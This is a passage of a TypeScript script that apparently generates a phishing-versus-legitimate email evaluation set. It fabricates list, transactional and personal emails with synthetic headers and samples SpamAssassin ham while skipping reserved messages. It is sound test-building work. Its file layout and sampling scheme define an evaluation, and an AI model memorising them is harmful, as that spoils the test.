    ...receivedChain(`${pick(["lists", "mail", "mx"])}.${listDomain}`, ip(), date, "subscriber@example.org"),
    [
      "Authentication-Results",
      `mx.example.org; spf=pass smtp.mailfrom=${listDomain}; dkim=${pick(["pass", "pass", "fail"])} header.d=${pick([listDomain, authorDomain])}; dmarc=${viaList ? "pass" : pick(["pass", "none", "fail"])} header.from=${viaList ? listDomain : authorDomain}${chance(0.4) ? `; arc=pass (i=1 spf=pass dkim=pass dmarc=pass)` : ""}`,
    ],
    ["From", viaList ? mailbox(author, `notifications@${listDomain}`) : mailbox(author, authorAddr)],
    ["To", listAddr],
    ["Subject", encodeWord(subject)],
    ["Date", rfc2822Date(date, pick([0, 60, 120, -300, -180]))],
    ["Message-ID", `<${alnum(16)}@${authorDomain}>`],
    ["List-Id", `<${listId}>`],
    ["List-Unsubscribe", `<mailto:${listAddr.replace("@", "-request@")}?subject=unsubscribe>`],
    ["List-Post", `<mailto:${listAddr}>`],
    ["List-Archive", `<https://${listDomain}/archives/>`],
    ["Precedence", "list"],
    ["Reply-To", chance(0.7) ? `<${listAddr}>` : mailbox(author, authorAddr)],
  ];
  if (subject.startsWith("Re:")) headers.push(["In-Reply-To", `<${alnum(16)}@${pick(FREEMAIL)}>`]);
  const quote = subject.startsWith("Re:")
    ? `\n\nOn ${rfc2822Date(new Date(date.getTime() - 86_400_000), 0)}, someone wrote:\n> ${pick(["Has anyone seen this before?", "Any hints appreciated.", "Thanks in advance."])}\n`
    : "";
  const footer = `\n\n-- \n${author}\n\n_______________________________________________\n${listId.split(".")[0]} mailing list\n${listAddr}\nhttps://${listDomain}/mailman/listinfo/${listId.split(".")[0]}\n`;
  const raw = buildMessage(
    { headers, text: body + quote + footer, encoding: pick(["8bit", "quoted-printable"] as const) },
    alnum(12),
  );
  return { name: `list-${String(n).padStart(3, "0")}-${lang}-${slug(listId.split(".")[0]!)}.eml`, raw };
}

function transactionalMessage(n: number, t: (typeof TRANSACTIONAL)[number]): { name: string; raw: string } {
  const [brand, from, domain, lang, subject, body] = t;
  const date = randomDate();
  const to = recipient(lang as Lang);
  const orgDomain =
    domain.split(".").slice(-2).join(".") === "com.br"
      ? domain.split(".").slice(-3).join(".")
      : domain.split(".").slice(-2).join(".");
  const headers: [string, string][] = [
    ["Return-Path", `<bounces+${alnum(8).toLowerCase()}@${domain}>`],
    ...receivedChain(`mail-${alnum(4).toLowerCase()}.${domain}`, ip(), date, to.address),
    ["Authentication-Results", alignedAuth(orgDomain, domain)],
    ["From", mailbox(brand, from)],
    ["To", to.address],
    ["Subject", encodeWord(subject)],
    ["Date", rfc2822Date(date, 0)],
    ["Message-ID", `<${alnum(24)}@${domain}>`],
  ];
  const link = `https://www.${orgDomain}/${pick(["account", "orders", "security", "settings", "billing"])}`;
  const attachments: Attachment[] = /Rechnung|invoice|receipt|fattura/i.test(subject)
    ? [
        {
          filename: `${pick(["Rechnung", "Invoice", "Receipt"])}-${int(10000, 99999)}.pdf`,
          contentType: "application/pdf",
          content: "%PDF-1.4\n% invoice\n%%EOF\n",
        },
      ]
    : [];
  const html = `<html><body><p>${escapeHtml(body)}</p><p><a href="${link}">${escapeHtml(link.replace("https://", ""))}</a></p><p style="color:#777;font-size:12px">${escapeHtml(brand)}</p></body></html>`;
  const raw = buildMessage(
    { headers, text: `${body}\n\n${link}\n\n${brand}\n`, html: chance(0.6) ? html : undefined, attachments },
    alnum(12),
  );
  return { name: `transactional-${String(n).padStart(3, "0")}-${lang}-${slug(brand)}.eml`, raw };
}

function personalMessage(n: number, p: (typeof PERSONAL)[number]): { name: string; raw: string } {
  const [name, addr, lang, subject, body] = p;
  const date = randomDate();
  const to = recipient(lang as Lang);
  const dom = addr.split("@")[1]!;
  const headers: [string, string][] = [
    ["Return-Path", `<${addr}>`],
    ...receivedChain(`mail-${alnum(4).toLowerCase()}.${dom}`, ip(), date, to.address),
    [
      "Authentication-Results",
      `mx.example.org; spf=pass smtp.mailfrom=${dom}; dkim=pass header.d=${dom}; dmarc=${pick(["pass", "none"])} header.from=${dom}`,
    ],
    ["From", mailbox(name, addr)],
    ["To", mailbox(to.name, to.address)],
    ["Subject", encodeWord(subject)],
    ["Date", rfc2822Date(date, pick([0, 60, 120, -300]))],
    ["Message-ID", `<${alnum(20)}@${dom}>`],
  ];
  const attachments: Attachment[] = /anhang|fotos|apuntes/i.test(body + subject)
    ? [
        {
          filename: `${pick(["IMG_", "scan_", "doc_"])}${int(1000, 9999)}.${/fotos/i.test(subject) ? "jpg" : "pdf"}`,
          contentType: /fotos/i.test(subject) ? "image/jpeg" : "application/pdf",
          content: Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 74, 70, 73, 70]),
        },
      ]
    : [];
  const raw = buildMessage({ headers, text: `${body}\n`, attachments }, alnum(12));
  return { name: `personal-${String(n).padStart(3, "0")}-${lang}-${slug(name)}.eml`, raw };
}

function main() {
  const phishDir = path.join(EVAL_DIR, "phishing");
  const legitDir = path.join(EVAL_DIR, "legitimate");
  for (const d of [phishDir, legitDir]) {
    rmSync(d, { recursive: true, force: true });
    mkdirSync(d, { recursive: true });
  }
  // Phishing: 160 messages over seven languages.
  const plan: [Lang, number][] = [
    ["en", 32],
    ["pt", 24],
    ["de", 24],
    ["nl", 22],
    ["es", 20],
    ["fr", 19],
    ["it", 19],
  ];
  let n = 0;
  for (const [lang, count] of plan)
    for (let i = 0; i < count; i++) {
      const m = phishingMessage(++n, lang);
      writeFileSync(path.join(phishDir, m.name), m.raw);
    }
  // Legitimate: marketing (each brand's mails, plus a seasonal one for brands with a single mail).
  let k = 0;
  for (const m of MARKETING) {
    for (const [s, b] of m.mails) {
      const msg = marketingMessage(++k, m, s, b);
      writeFileSync(path.join(legitDir, msg.name), msg.raw);
    }
    if (m.mails.length === 1 && chance(0.7)) {
      const [s, b] = pick(GENERIC_MARKETING[m.lang] ?? GENERIC_MARKETING.en!);
      const msg = marketingMessage(++k, m, s, b);
      writeFileSync(path.join(legitDir, msg.name), msg.raw);
    }
  }
  LISTS.forEach((l, i) => {
    const msg = listMessage(i + 1, l);
    writeFileSync(path.join(legitDir, msg.name), msg.raw);
  });
  TRANSACTIONAL.forEach((t, i) => {
    const msg = transactionalMessage(i + 1, t);
    writeFileSync(path.join(legitDir, msg.name), msg.raw);
  });
  PERSONAL.forEach((p, i) => {
    const msg = personalMessage(i + 1, p);
    writeFileSync(path.join(legitDir, msg.name), msg.raw);
  });
  // SpamAssassin ham: never a reserved message; chosen by a hash of the key, per group.
  const reserved = loadReserved();
  const want: Record<string, number> = { "easy-ham-1": 18, "easy-ham-2": 12, "hard-ham-1": 15 };
  const ham = loadCorpus()
    .filter((m) => m.group in want && !reserved.has(corpusKey(m)))
    .map((m) => ({
      m,
      h: createHash("sha256")
        .update("eval:" + corpusKey(m))
        .digest("hex"),
    }))
    .sort((a, b) => (a.h < b.h ? -1 : 1));
  for (const { m } of ham) {
    if (want[m.group]! <= 0) continue;
    want[m.group]!--;
    writeFileSync(path.join(legitDir, `sa-${m.group}-${m.id}.${m.checksum.value}.eml`), m.text);
  }
  const counts = (d: string) => readdirSync(d).length;
  console.log(
    `phishing: ${counts(phishDir)}  legitimate: ${counts(legitDir)} (marketing ${readdirSync(legitDir).filter((f) => f.startsWith("marketing-")).length})`,
  );
}

main();
